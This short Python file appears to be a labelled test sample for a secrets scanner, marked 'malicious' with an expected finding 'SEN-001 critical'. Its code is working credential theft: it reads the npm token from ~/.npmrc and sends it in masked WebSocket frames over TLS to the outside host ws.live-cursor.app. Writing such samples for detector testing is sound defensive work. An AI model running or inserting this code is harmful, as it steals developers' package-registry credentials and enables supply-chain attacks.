# does: sends the npm token by a WebSocket, in masked frames
# kind: malicious
# expect: SEN-001 critical proven
import os
import socket
import ssl

data = open(os.path.expanduser("~/.npmrc"), "rb").read()
stream = ssl.create_default_context().wrap_socket(socket.create_connection(("ws.live-cursor.app", 443)), server_hostname="ws.live-cursor.app")
stream.sendall(
    b"GET /s HTTP/1.1\r\nHost: ws.live-cursor.app\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
    b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"
)
stream.recv(4096)
mask = os.urandom(4)
length = bytes([0x80 | 126]) + len(data).to_bytes(2, "big") if len(data) > 125 else bytes([0x80 | len(data)])
stream.sendall(b"\x81" + length + mask + bytes(byte ^ mask[number % 4] for number, byte in enumerate(data)))
stream.sendall(b"\x88\x80" + mask)
stream.close()
